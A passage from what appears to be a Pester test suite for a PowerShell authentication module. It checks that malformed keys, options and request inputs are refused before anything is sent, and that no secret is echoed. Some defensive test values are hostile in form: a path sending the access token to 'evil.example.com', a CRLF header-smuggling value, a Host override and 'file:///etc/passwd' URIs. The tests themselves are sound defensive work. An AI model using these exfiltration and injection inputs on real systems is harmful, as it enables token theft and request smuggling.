# Bad input is refused before anything is sent, each kind with its own ErrorId, a message that says what is wrong in
# one plain sentence or two (no stack trace, no exception type names), and nothing secret echoed: not the key that was
# refused, not the client's real key, not the token. Table-driven across every cmdlet that takes the input; the
# emulator's request counter proves that nothing reached the wire. (ClientAssertion.Tests.ps1 covers New-HyprClientAssertion's
# own key table; these go through Get-HyprAccessToken, inline Invoke-HyprApi and Test-HyprClientAssertion as well.)
BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-HyprModuleManifest) -Force
    $script:emulator = Start-TestEmulator
    $script:tenant = $emulator.BaseUri
    $script:client = New-EmulatorClient $emulator @{}
    $script:token = Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey
    $script:tokenValue = Get-TokenValue $token

    function ConvertTo-Base64Url([byte[]] $Bytes) { [Convert]::ToBase64String($Bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_') }
    function ConvertTo-Pem([string] $Label, [byte[]] $Der) {
        $body = ([regex]::Matches([Convert]::ToBase64String($Der), '.{1,64}') | ForEach-Object Value) -join "`n"
        "-----BEGIN $Label-----`n$body`n-----END $Label-----"
    }

    # PKCS#8 of an EC key on any named curve, built by hand (so curves .NET cannot make here, such as secp256k1, work too):
    # PrivateKeyInfo { 0, { id-ecPublicKey, curve }, OCTET STRING { ECPrivateKey { 1, OCTET STRING d } } }.
    function New-EcPkcs8([byte[]] $CurveOid, [byte[]] $D) {
        $ecPrivateKey = [byte[]](@(0x30, (5 + $D.Length), 0x02, 0x01, 0x01, 0x04, $D.Length) + $D)
        $algorithm = [byte[]](@(0x30, (11 + $CurveOid.Length), 0x06, 0x07, 0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x02, 0x01, 0x06, $CurveOid.Length) +
            $CurveOid)
        $content = [byte[]](@(0x02, 0x01, 0x00) + $algorithm + @(0x04, $ecPrivateKey.Length) + $ecPrivateKey)
        return [byte[]](@(0x30, $content.Length) + $content)
    }

    $p256 = [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP256)
    $otherP256 = [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP256)
    $p384 = [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP384)
    $p521 = [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP521)
    $rsa = [System.Security.Cryptography.RSA]::Create(2048)
    try {
        $pkcs8 = $p256.ExportPkcs8PrivateKey()
        $pbe = [System.Security.Cryptography.PbeParameters]::new('Aes256Cbc', 'SHA256', 1000)
        $scalar = [byte[]]::new(32)
        [System.Security.Cryptography.RandomNumberGenerator]::Fill($scalar)
        $scalar[0] = 0x7F
        $p384Private = $p384.ExportParameters($true)
        $p256Public = $p256.ExportParameters($false).Q
        $rsaPrivate = $rsa.ExportParameters($true)
        # .NET's PKCS#8 embeds the public key: put another key's point in its place.
        $ownPoint = [Convert]::ToHexString([byte[]](@(4) + $p256Public.X + $p256Public.Y))
        $otherQ = $otherP256.ExportParameters($false).Q
        $mixed = [Convert]::FromHexString([Convert]::ToHexString($pkcs8).Replace($ownPoint,
            [Convert]::ToHexString([byte[]](@(4) + $otherQ.X + $otherQ.Y))))
        $certificate =
            [System.Security.Cryptography.X509Certificates.CertificateRequest]::new('CN=HyprAuth test', $p256,
                'SHA256').CreateSelfSigned([DateTimeOffset]::UtcNow, [DateTimeOffset]::UtcNow.AddDays(1))
        $script:keys = @{
            NotBase64        = $client.clientKey.Substring(0, 60) + '!' + $client.clientKey.Substring(61)
            Whitespace       = "  `t`n  "
            Truncated        = [Convert]::ToBase64String($pkcs8[0..39])
            Trailing         = [Convert]::ToBase64String([byte[]]($pkcs8 + @(0, 0)))
            NotDer           = [Convert]::ToBase64String([byte[]](1..48))
            Rsa              = [Convert]::ToBase64String($rsa.ExportPkcs8PrivateKey())
            RsaPkcs1Pem      = $rsa.ExportRSAPrivateKeyPem()
            Ed25519          =
                [Convert]::ToBase64String([byte[]](@(0x30, 0x2E, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2B, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20) +
                    $scalar))
            P384             = [Convert]::ToBase64String($p384.ExportPkcs8PrivateKey())
            P521             = [Convert]::ToBase64String($p521.ExportPkcs8PrivateKey())
            Secp256k1        = [Convert]::ToBase64String((New-EcPkcs8 ([byte[]](0x2B, 0x81, 0x04, 0x00, 0x0A)) $scalar))
            P384Sec1Pem      = $p384.ExportECPrivateKeyPem()
            JwkP384          = [ordered]@{
                kty = 'EC'
                crv = 'P-384'
                x = ConvertTo-Base64Url $p384Private.Q.X
                y = ConvertTo-Base64Url $p384Private.Q.Y
                d = ConvertTo-Base64Url $p384Private.D
            } | ConvertTo-Json -Compress
            JwkRsa           = [ordered]@{
                kty = 'RSA'
                n = ConvertTo-Base64Url $rsaPrivate.Modulus
                e = ConvertTo-Base64Url $rsaPrivate.Exponent
                d = ConvertTo-Base64Url $rsaPrivate.D
            } | ConvertTo-Json -Compress
            JwkWithoutD      = [ordered]@{
                kty = 'EC'
                crv = 'P-256'
                x = ConvertTo-Base64Url $p256Public.X
                y = ConvertTo-Base64Url $p256Public.Y
            } | ConvertTo-Json -Compress
            JwkBroken        = '{"kty":"EC","crv":"P-256","d":"' + (ConvertTo-Base64Url $scalar) + '",'
            Encrypted        = [Convert]::ToBase64String($p256.ExportEncryptedPkcs8PrivateKey('correct horse', $pbe))
            EncryptedPem     = $p256.ExportEncryptedPkcs8PrivateKeyPem('correct horse', $pbe)
            LegacyEncrypted  = "-----BEGIN EC PRIVATE KEY-----`nProc-Type: 4,ENCRYPTED`nDEK-Info: AES-128-CBC,0123456789ABCDEF0123456789ABCDEF`n`n" +
                [Convert]::ToBase64String($p256.ExportECPrivateKey()) + "`n-----END EC PRIVATE KEY-----"
            PublicOnly       = [Convert]::ToBase64String($p256.ExportSubjectPublicKeyInfo())
            WrongLabel       = ConvertTo-Pem 'CERTIFICATE' $pkcs8
            OpenSsh          =
                "-----BEGIN OPENSSH PRIVATE KEY-----`n" +
                "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW`n-----END OPENSSH PRIVATE KEY-----"
            CutPem           = (ConvertTo-Pem 'PRIVATE KEY' $pkcs8).Split("`n-----END")[0]
            ZeroScalar       = [Convert]::ToBase64String((New-EcPkcs8 ([byte[]](0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x03, 0x01, 0x07)) ([byte[]]::new(32))))
            OrderScalar      =
                [Convert]::ToBase64String((New-EcPkcs8 ([byte[]](0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x03, 0x01,
                    0x07)) ([Convert]::FromHexString('FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551'))))
            MixedPublicKey   = [Convert]::ToBase64String($mixed)
            Certificate      = [Convert]::ToBase64String($certificate.RawData)
        }
        $certificate.Dispose()
    }
    finally { foreach ($key in @($p256, $otherP256, $p384, $p521, $rsa)) { $key.Dispose() } }

    $script:folder = New-Item -ItemType Directory -Path (Join-Path $TestDrive 'keys')
    $script:files = @{
        Missing   = Join-Path $folder 'no-such.key'
        Directory = $folder.FullName
        Empty     = Join-Path $folder 'empty.key'
        Huge      = Join-Path $folder 'huge.key'
        Rsa       = Join-Path $folder 'rsa.pem'
    }
    Set-Content -LiteralPath $files.Empty -Value '' -NoNewline
    Set-Content -LiteralPath $files.Huge -Value ('A' * 70000) -NoNewline
    Set-Content -LiteralPath $files.Rsa -Value $keys.RsaPkcs1Pem -NoNewline

    # Runs one call that must be refused; returns the error record, what else it wrote, and how many requests went out.
    function Get-Refusal([scriptblock] $Call) {
        $before = Get-EmulatorRequestTotal $emulator
        $ErrorActionPreference = 'Stop'
        $record = $null
        $output = $null
        try { $output = & $Call 3>$null } catch { $record = $_ }
        [pscustomobject]@{ Record = $record; Output = $output; Requests = (Get-EmulatorRequestTotal $emulator) - $before }
    }

    # A secret must not appear, whole or in part: every 12-character window of its second half is looked for.
    function Find-Secret([string] $Text, [string] $Secret) {
        # A PEM's armour and headers ('-----END RSA PRIVATE KEY-----', 'Proc-Type: 4,ENCRYPTED') are not secret, and error
        # messages may rightly name the key type: only the base64 body is searched for.
        $Secret = (($Secret -split '\r?\n') | Where-Object { $_ -notmatch '^-----|^[\w-]+:' }) -join "`n"
        if ([string]::IsNullOrWhiteSpace($Secret) -or $Secret.Trim().Length -lt 12) { return }
        $Secret = $Secret.Trim()
        if ($Text.Contains($Secret)) { 'the whole secret' }
        for ($i = [Math]::Floor($Secret.Length / 2); $i + 12 -le $Secret.Length; $i += 6) {
            $window = $Secret.Substring($i, 12)
            if ($window.Trim().Length -eq 12 -and $Text.Contains($window)) { "characters $i-$($i + 11)" }
        }
    }
}

AfterAll {
    Stop-HyprEmulator $emulator
}

Describe 'Bad input is refused before anything is sent, with its own ErrorId' {
    It '<Case> is <ErrorId>' -ForEach @(
        # Keys, through each cmdlet that takes one.
        @{
            Case = 'a key file path given as -ClientKey'
            ErrorId = 'ClientKeyNotBase64'
            Advice = 'looks like a file path.*-KeyPath'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey './client.key' }
        }
        @{
            Case = 'a key pasted with its quotes'
            ErrorId = 'ClientKeyNotBase64'
            Advice = 'remove the quotes'
            Secret = { $client.clientKey }
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey ('"' + $client.clientKey + '"') }
        }
        @{
            Case = 'a key that is not base64 (Get-HyprAccessToken)'
            ErrorId = 'ClientKeyNotBase64'
            Secret = { $keys.NotBase64 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.NotBase64 }
        }
        @{
            Case = 'an empty key (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyEmpty'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey '' }
        }
        @{
            Case = 'a key of white space only'
            ErrorId = 'ClientKeyEmpty'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Whitespace }
        }
        @{
            Case = 'an empty SecureString'
            ErrorId = 'ClientKeyEmpty'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey ([securestring]::new()) }
        }
        @{
            Case = 'truncated DER (Test-HyprClientAssertion -ClientKey)'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.Truncated }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClientKey $keys.Truncated }
        }
        @{
            Case = 'DER with bytes after the key'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.Trailing }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Trailing }
        }
        @{
            Case = 'base64 that is not DER at all'
            ErrorId = 'ClientKeyMalformed'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.NotDer }
        }
        @{
            Case = 'an RSA key (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.Rsa }
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Rsa }
        }
        @{
            Case = 'an RSA PKCS#1 PEM key'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.RsaPkcs1Pem }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.RsaPkcs1Pem }
        }
        @{
            Case = 'an Ed25519 key'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.Ed25519 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Ed25519 }
        }
        @{
            Case = 'a P-384 key'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.P384 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.P384 }
        }
        @{
            Case = 'a P-521 key (Test-HyprClientAssertion -ClientKey)'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.P521 }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClientKey $keys.P521 }
        }
        @{
            Case = 'a secp256k1 key (DER built by hand)'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.Secp256k1 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Secp256k1 }
        }
        @{
            Case = 'a P-384 SEC1 PEM key'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.P384Sec1Pem }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.P384Sec1Pem }
        }
        @{
            Case = 'a JWK for another curve (P-384)'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.JwkP384 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.JwkP384 }
        }
        @{
            Case = 'an RSA JWK'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.JwkRsa }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.JwkRsa }
        }
        @{
            Case = 'a JWK without d (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyJwkWithoutPrivateKey'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.JwkWithoutD }
        }
        @{
            Case = 'a JWK that is not valid JSON'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.JwkBroken }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.JwkBroken }
        }
        @{
            Case = 'an encrypted PKCS#8 key'
            ErrorId = 'ClientKeyEncrypted'
            Secret = { $keys.Encrypted }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Encrypted }
        }
        @{
            Case = 'an encrypted PKCS#8 PEM key (Test-HyprClientAssertion -ClientKey)'
            ErrorId = 'ClientKeyEncrypted'
            Secret = { $keys.EncryptedPem }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClientKey $keys.EncryptedPem }
        }
        @{
            Case = 'a legacy password-protected PEM key (Proc-Type)'
            ErrorId = 'ClientKeyEncrypted'
            Secret = { $keys.LegacyEncrypted }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.LegacyEncrypted }
        }
        @{
            Case = 'a public key only'
            ErrorId = 'ClientKeyPublicOnly'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.PublicOnly }
        }
        @{
            Case = 'a PEM block with the wrong label'
            ErrorId = 'ClientKeyUnsupportedPemLabel'
            Secret = { $keys.WrongLabel }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.WrongLabel }
        }
        @{
            Case = 'an OpenSSH key'
            ErrorId = 'ClientKeyUnsupportedPemLabel'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.OpenSsh }
        }
        @{
            Case = 'a PEM key cut off before its END line'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.CutPem }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.CutPem }
        }
        @{
            Case = 'a private key of zero'
            ErrorId = 'ClientKeyMalformed'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.ZeroScalar }
        }
        @{
            Case = 'a private key equal to the group order (New-HyprClientAssertion)'
            ErrorId = 'ClientKeyMalformed'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $keys.OrderScalar }
        }
        @{
            Case = 'a key whose embedded public key is another key''s'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.MixedPublicKey }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.MixedPublicKey }
        }
        @{
            Case = 'an X.509 certificate instead of the key'
            ErrorId = 'ClientKeyMalformed'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Certificate }
        }
        @{
            Case = 'a hashtable as -ClientKey'
            ErrorId = 'ClientKeyWrongType'
            Secret = { $client.clientKey }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey @{ key = $client.clientKey } }
        }
        @{
            Case = 'a -KeyPath that does not exist'
            ErrorId = 'KeyFileNotFound'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -KeyPath $files.Missing }
        }
        # Root reads any file whatever its mode, so chmod 000 proves nothing here; a directory is unreadable as a file for everyone.
        @{
            Case = 'a -KeyPath that cannot be read (a directory)'
            ErrorId = 'KeyFileUnreadable'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -KeyPath $files.Directory }
        }
        @{
            Case = 'an empty key file (New-HyprClientAssertion)'
            ErrorId = 'ClientKeyEmpty'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -KeyPath $files.Empty }
        }
        @{
            Case = 'a key file of 70 KB (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyMalformed'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -KeyPath $files.Huge }
        }
        @{
            Case = 'a key file holding an RSA key (Test-HyprClientAssertion -KeyPath)'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.RsaPkcs1Pem }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -KeyPath $files.Rsa }
        }
        @{
            Case = 'a -PublicKey that is no key'
            ErrorId = 'PublicKeyInvalid'
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -PublicKey 'not a key at all' }
        }

        # Claims and options.
        @{
            Case = 'an empty -ClientId'
            ErrorId = 'ParameterArgumentValidationError'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId '' -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -ClientId of white space'
            ErrorId = 'InvalidClientId'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId '   ' -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -ClientId with a control character'
            ErrorId = 'InvalidClientId'
            Call = { New-HyprClientAssertion -ClientId "hypap-a`u{0007}b" -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -KeyId of white space'
            ErrorId = 'InvalidKeyId'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -KeyId ' ' }
        }
        @{
            Case = 'an -Issuer of white space'
            ErrorId = 'InvalidIssuer'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -Issuer ' ' }
        }
        @{
            Case = 'an -Audience of white space'
            ErrorId = 'InvalidAudience'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -Audience ' ' }
        }
        @{
            Case = 'an expiry a minute in the past (local time)'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt (Get-Date).AddMinutes(-1) }
        }
        @{
            Case = 'an expiry that is no date'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt '2026-13-45' }
        }
        @{
            Case = 'an expiry beyond the year 9999 in Unix seconds'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt 99999999999999 }
        }
        @{
            Case = 'a negative lifetime'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '-00:00:01' }
        }
        @{
            Case = 'a zero lifetime'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime 0 }
        }
        @{
            Case = 'a lifetime under a second'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '00:00:00.5' }
        }
        @{
            Case = 'the longest lifetime a TimeSpan holds'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime ([TimeSpan]::MaxValue) }
        }
        @{
            Case = 'a tenant URI with no host'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'https://' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI that is no URI (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTenantUri'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'not a uri at all' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a path'
            ErrorId = 'InvalidTenantUri'
            Advice = 'use the bare tenant address, e\.g\. https://tenant\.hypr\.com'
            Call = { Get-HyprAccessToken -TenantUri 'https://tenant.hypr.com/rp' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a loopback tenant without a scheme'
            ErrorId = 'InvalidTenantUri'
            Advice = 'no scheme'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri ([uri]$tenant).Authority -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a query'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'https://tenant.hypr.com/?next=1' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a user name and password'
            ErrorId = 'InvalidTenantUri'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Get-HyprAccessToken -TenantUri 'https://me:S3cretPassw0rd!@tenant.hypr.com' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a password and no host'
            ErrorId = 'InvalidTenantUri'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'https://me:S3cretPassw0rd!@' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a file:// tenant URI'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'file:///etc/passwd' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'http:// to a non-loopback host (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTenantUri'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'http://tenant.hypr.com' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'http:// to a non-loopback IPv6 address'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'http://[2001:db8::1]' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a relative -TokenEndpoint (/path)'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Get-HyprAccessToken -TenantUri $tenant -TokenEndpoint '/rp/token/endpoint/exchange/clientcredentials' `
                -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a relative -TokenEndpoint (path) on Invoke-HyprApi'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -TokenEndpoint 'rp/token' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'an http:// -TokenEndpoint on another host (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -TokenEndpoint 'http://token.example.com/exchange' `
                -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'an -Assertion that is no JWT'
            ErrorId = 'InvalidAssertion'
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion 'not-a-jwt' }
        }
        @{
            Case = 'the client key given as -Assertion by mistake'
            ErrorId = 'InvalidAssertion'
            Secret = { $client.clientKey }
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion $client.clientKey }
        }
        @{
            Case = 'an -Assertion of three parts that are not JSON'
            ErrorId = 'InvalidAssertion'
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion 'a.b.c' }
        }
        @{ Case = 'a negative -ClockSkew'; ErrorId = 'InvalidClockSkew'; Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClockSkew '-00:01:00' } }
        @{ Case = 'a zero -MaximumLifetime'; ErrorId = 'InvalidMaximumLifetime'; Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -MaximumLifetime 0 } }
        @{
            Case = 'a -TimeoutSec of 0'
            ErrorId = 'ParameterArgumentValidationError'
            Call = { Invoke-HyprApi -Path /rp/api/echo -AccessToken $token -TimeoutSec 0 }
        }
        @{ Case = 'a relative -Proxy'; ErrorId = 'InvalidProxy'; Call = { Invoke-HyprApi -Path /rp/api/echo -AccessToken $token -Proxy 'proxy' } }

        # API calls.
        @{
            Case = 'a path absolute to another host, with inline credentials (nothing exchanged either)'
            ErrorId = 'InvalidPath'
            Call = { Invoke-HyprApi -Path 'https://evil.example.com/rp/api/echo' -TenantUri $tenant -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a path that names another host with backslashes'
            ErrorId = 'InvalidPath'
            Call = { Invoke-HyprApi -Path '\\evil.example.com\rp\api\echo' -AccessToken $token }
        }
        @{ Case = 'a file:// path'; ErrorId = 'InvalidPath'; Call = { Invoke-HyprApi -Path 'file:///etc/passwd' -AccessToken $token } }
        @{ Case = 'a path with a fragment'; ErrorId = 'InvalidPath'; Call = { Invoke-HyprApi -Path '/rp/api/echo#top' -AccessToken $token } }
        @{
            Case = 'a path to another host carrying the token in its query'
            ErrorId = 'InvalidPath'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path "https://evil.example.com/collect?t=$tokenValue" -AccessToken $token }
        }
        @{
            Case = 'a path to another host with a password in it'
            ErrorId = 'InvalidPath'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Invoke-HyprApi -Path 'https://me:S3cretPassw0rd!@evil.example.com/rp/api/echo' -AccessToken $token }
        }
        @{
            Case = 'a body holding a SecureString (the key)'
            ErrorId = 'InvalidBody'
            Secret = { $client.clientKey }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ key =
                (ConvertTo-SecureString $client.clientKey -AsPlainText -Force) } -AccessToken $token }
        }
        @{
            Case = 'a body holding a PSCredential'
            ErrorId = 'InvalidBody'
            Secret = { 'Pa55w0rd-never-shown' }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ login =
                [pscredential]::new('user', (ConvertTo-SecureString 'Pa55w0rd-never-shown' -AsPlainText -Force)) } -AccessToken $token }
        }
        @{
            Case = 'a body that refers to itself'
            ErrorId = 'InvalidBody'
            Call = { $loop = @{}; $loop.self = $loop; Invoke-HyprApi -Path /rp/api/echo -Method POST -Body $loop -AccessToken $token }
        }
        @{
            Case = 'a body holding NaN'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ ratio = [double]::NaN } -AccessToken $token }
        }
        @{
            Case = 'a body holding a script block'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method PUT -Body ([pscustomobject]@{ run = { 'x' } }) -AccessToken $token }
        }
        @{
            Case = '-All with a body that is not a JSON object'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/bulk/HYPRDefaultApplication/fetch -Method POST -Body '[1,2]' -All -AccessToken $token }
        }
        @{
            Case = 'a header replacing Authorization (with the token)'
            ErrorId = 'InvalidHeaders'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ Authorization = "Bearer $tokenValue" } -AccessToken $token }
        }
        @{
            Case = 'a header replacing Host'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ Host = 'evil.example.com' } -AccessToken $token }
        }
        @{
            Case = 'a header value that smuggles a second header'
            ErrorId = 'InvalidHeaders'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ 'X-Note' = "a`r`nAuthorization: Bearer $tokenValue" } -AccessToken $token }
        }
        @{
            Case = 'a Content-Type header on a request without a body'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ 'Content-Type' = 'text/plain' } -AccessToken $token }
        }
        @{
            Case = 'a -ContentType that is no media type'
            ErrorId = 'InvalidContentType'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body 'x' -ContentType 'not a type;;' -AccessToken $token }
        }
    ) {
        $refusal = Get-Refusal $Call
        $record = $refusal.Record
        $record | Should -Not -BeNullOrEmpty -Because 'the call must be refused'
        $refusal.Output | Should -BeNullOrEmpty
        $refusal.Requests | Should -Be 0 -Because 'bad input is refused before any request (no exchange either)'
        $record.FullyQualifiedErrorId | Should -BeLike "$ErrorId,HyprAuth.Commands.*"
        $record.CategoryInfo.Category | Should -Not -Be 'NotSpecified'

        $message = $record.Exception.Message
        $message | Should -Not -BeNullOrEmpty
